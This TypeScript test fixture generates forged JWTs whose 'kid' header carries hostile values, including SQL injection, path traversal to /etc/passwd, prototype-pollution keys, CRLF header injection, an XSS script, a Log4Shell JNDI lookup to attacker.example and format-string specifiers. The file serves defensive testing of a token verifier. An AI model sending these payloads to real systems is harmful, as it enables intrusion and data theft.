import { type Attack, group } from './attack.ts'
import { attackerEc } from './attacker-keys.ts'
import { compact, es256, goodClaims, hmac } from './forge.ts'

/** Values of `kid` that must lead nowhere: files, addresses, statements. */
export const kids: readonly Attack[] = group(
  'what a kid may hold',
  [
    "' OR '1'='1",
    '"; DROP TABLE partner; --',
    '../../../../etc/passwd',
    '/dev/null',
    '..\\..\\windows\\win.ini',
    'file:///etc/passwd',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'a\0b',
    'a\r\nSet-Cookie: a=b',
    '<script>alert(1)</script>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker sends
    '${jndi:ldap://attacker.example/a}',
    '%s%s%n',
    '\ud800',
    '',
    null,
    0,
    true,
    ['p256'],
    { toString: 'p256' },
    { $ne: null },
  ].flatMap(
    kid =>
      [
        [
          `${JSON.stringify(kid)}, signed by the attacker`,
          () => compact({ alg: 'ES256', kid }, goodClaims(), es256(attackerEc.privateKey)),
        ],
        [
          `${JSON.stringify(kid)}, as HMAC with an empty secret`,
          () => compact({ alg: 'HS256', kid }, goodClaims(), hmac('')),
        ],
        [
          `${JSON.stringify(kid)} as x5t#S256`,
          () => compact({ alg: 'ES256', 'x5t#S256': kid }, goodClaims(), es256(attackerEc.privateKey)),
        ],
      ] as const,
  ),
)
